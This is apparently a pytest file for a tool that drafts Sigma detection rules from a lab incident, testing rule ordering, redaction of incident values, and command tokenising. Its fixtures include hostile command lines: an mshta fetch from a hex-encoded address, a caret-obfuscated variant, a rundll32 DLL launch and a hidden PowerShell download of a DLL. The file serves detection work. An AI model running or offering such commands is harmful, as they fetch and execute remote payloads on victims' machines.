"""Sigma drafts: what they look for, read by pySigma, and shapes that outlive one incident."""

import re

import pytest
import yaml
from sigma.collection import SigmaCollection

from sekisho.respond import sigma
from sekisho.respond._shapes import carets, grammar, tokens
from sekisho.respond.observed import pick


@pytest.fixture(scope="module")
def drafts(lab_result):
    (incident,) = lab_result.incidents
    picked = pick(lab_result, lab_result.incidents, frozenset({"corp.example"}), exercise=True)
    return sigma.drafts(lab_result, incident, picked.observed)


@pytest.mark.filterwarnings("ignore")
def test_pysigma_reads_every_draft(drafts):
    for draft in drafts:
        (rule,) = SigmaCollection.from_yaml(draft.text).rules
        assert not rule.errors
        assert rule.title == draft.title
        assert str(rule.id) == draft.document["id"]


def test_behaviour_comes_before_values(drafts):
    titles = [one.title for one in drafts]
    assert titles[0] == "Excel Starts Cmd"
    assert "Cmd with Words Split by Carets" in titles
    assert any(title.startswith("Attachment Named like") for title in titles)
    assert titles.index("Connection to an Address of the Incident") > titles.index("Excel Starts Cmd")


def test_a_behaviour_holds_no_address_host_or_account_of_the_incident(drafts):
    for draft in drafts:
        if "of the Incident" not in draft.title or "Shape" in draft.title:
            assert not re.search(r"203\.0\.113|0xcb00710a|user01|PC-0142|corp\.example", draft.text), draft.title


def test_ids_are_the_same_each_time_and_unique(drafts, lab_result):
    picked = pick(lab_result, lab_result.incidents, frozenset({"corp.example"}), exercise=True)
    again = sigma.drafts(lab_result, lab_result.incidents[0], picked.observed)
    assert [one.text for one in again] == [one.text for one in drafts]
    assert len({one.document["id"] for one in drafts}) == len(drafts)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("mshta  http://0xcb00710a/fer/fe3.html", ("//0x", "http")),
        ("rundll32 C:\\ProgramData\\QWER.dll,KitKat", ("\\ProgramData\\", ".dll,")),
        ("powershell -enc AAAA", ()),
        ("cmd /c dir", ()),
        ("", ()),
        (
            "powershell -w hidden iwr https://a.example/x -o C:\\Users\\Public\\a.dll",
            ("hidden", "\\Users\\Public\\", ".dll", "http", " -w", " -o"),
        ),
    ],
)
def test_tokens_are_what_the_next_wave_keeps(command, expected):
    assert tokens(command) == expected


@pytest.mark.parametrize(
    ("name", "fits", "does_not"),
    [
        ("form 01.21.2022.xls", "FORM 12.31.2023.xls", "form.xls"),
        ("INVOICE 2022-04-22_1033, USA.zip", "INVOICE 2022-05-01_0001, USA.zip", "INVOICE 2022-05-01.zip"),
    ],
)
def test_names_of_one_grammar_fit(name, fits, does_not):
    assert re.search(grammar(name), name)
    assert re.search(grammar(name), fits)
    assert not re.search(grammar(name), does_not)


@pytest.mark.parametrize(
    "name",
    ["ACH Form.xls", "a1.zip", "x", "", "請求書.xls", "1.2.3.4.5.6.7.8.9.10.11.12.13.14.15.xls", "a" * 300 + ".xls"],
)
def test_names_without_a_grammar_give_none(name):
    assert grammar(name) == ""


def test_carets():
    assert carets("cmd /c m^sh^t^a h^tt^p^:/^/0xcb00710a/fer/fe3.html")
    assert not carets("cmd /c echo a ^| find")


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("\\ProgramData\\", "\\ProgramData\\"),
        ("a*b?", "a\\*b\\?"),
        ("\\\\host\\x", "\\\\\\\\host\\x"),
        ("a\\*", "a\\\\\\*"),
    ],
)
def test_literals_stay_literals(text, written):
    assert sigma._literal(text) == written


def test_a_rule_is_yaml_of_one_document(drafts):
    assert isinstance(yaml.safe_load(drafts[0].text), dict)
